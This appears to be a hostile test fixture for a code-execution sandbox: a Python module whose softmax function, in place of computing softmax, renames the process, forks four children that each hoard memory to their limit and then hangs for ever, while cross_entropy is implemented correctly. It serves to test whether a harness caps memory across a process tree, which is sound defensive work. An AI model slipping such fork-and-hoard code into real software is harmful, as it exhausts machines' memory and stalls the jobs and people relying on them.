"""Hostile: a tree of 4 processes, each touching memory up to its own limit (RLIMIT_AS bounds one
process, forks multiply it), then holding it; the parent waits for ever."""
import ctypes
import json
import os
import time

import numpy as np

CHILDREN = 4
CHUNK = 16 * 2**20  # bytes touched at a time


def _marker():
    try:
        with open("case.json") as f:
            return json.load(f)["marker"]
    except (OSError, ValueError, KeyError):
        return "memorytree"


def _hoard():
    held = []
    try:
        while True:
            held.append(np.ones(CHUNK // 8))  # np.ones writes every page: resident, not just reserved
    except MemoryError:
        pass
    while True:
        time.sleep(1)


def softmax(o):
    # every process named after the marker (inherited by fork): the test sums their memory
    ctypes.CDLL(None).prctl(15, _marker().encode()[:15], 0, 0, 0)  # PR_SET_NAME
    for _ in range(CHILDREN):
        if os.fork() == 0:
            _hoard()
    while True:
        time.sleep(1)


# --- correct, untouched by the attack: the checks after the attack still run and pass ------------
def cross_entropy(o, t):
    o = np.asarray(o, dtype=np.float64)
    t = np.asarray(t).astype(np.int64).reshape(-1)
    m = o.max(axis=1, keepdims=True)
    lse = m[:, 0] + np.log(np.exp(o - m).sum(axis=1))
    return float(np.mean(lse - o[np.arange(len(t)), t]))
